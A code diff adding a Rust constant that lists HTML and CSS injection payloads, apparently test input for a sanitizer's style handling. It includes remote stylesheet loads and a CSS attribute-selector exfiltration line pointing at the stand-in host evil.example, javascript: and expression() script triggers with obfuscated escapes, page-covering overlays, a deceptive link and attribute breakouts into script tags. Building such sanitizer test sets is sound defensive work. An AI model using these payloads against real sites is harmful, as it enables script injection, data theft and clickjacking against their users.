@@ -1,0 +1,28 @@
+//! Styles: what runs in old browsers, what loads in all of them, and what covers the page.
+
+pub(super) const PAYLOADS: &[&str] = &[
+    "<style>@import '//evil.example/x.css';</style>",
+    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
+    "<style>*{x:expression(alert(1))}</style>",
+    "<style>@\\69mport url(javascript:alert(1));</style>",
+    "<style media=all type=text/css>body{display:none}</style>",
+    "<p style=\"background:url(javascript:alert(1))\">x</p>",
+    "<p style=\"background:\\75rl('//evil.example/')\">x</p>",
+    "<p style=\"behavior:url(x.htc);-moz-binding:url(x.xml#y)\">x</p>",
+    "<p style=\"width:expression(alert(1))\">x</p>",
+    "<p style=\"width:expre/**/ssion(alert(1))\">x</p>",
+    "<p style=\"-o-link:'javascript:alert(1)';-o-link-source:current\">x</p>",
+    "<p style=\"position:fixed;inset:0;z-index:9999\">x</p>",
+    "<p style='font-family:\"&lt;/style>&lt;script>alert(1)&lt;/script>'>x</p>",
+    "<p STYLE=x:y style=z>x</p>",
+    "<p/style=position:fixed>x</p>",
+    "<div class=\"entry bar turn\" style=\"--paper:red\">x</div>",
+    "<a class=\"button main\" href=https://evil.example/>Mark all as read</a>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<link rel=\"alternate stylesheet\" href=data:text/css,*{display:none}>",
+    "<link rel=preload as=style href=//evil.example/x.css onload=\"this.rel='stylesheet'\">",
+    "<xss style=\"xss:expression(alert(1))\">x</xss>",
+    "<table style=\"background:url(//evil.example/)\" bgcolor=red border=9><td width=9999 height=9999>x</table>",
+    "<font size=7 face='\"><script>' color=\"x\" style=position:fixed>x</font>",
+    "<p align='\"><script>' hidden inert slot=x part=y>x</p>",
+];
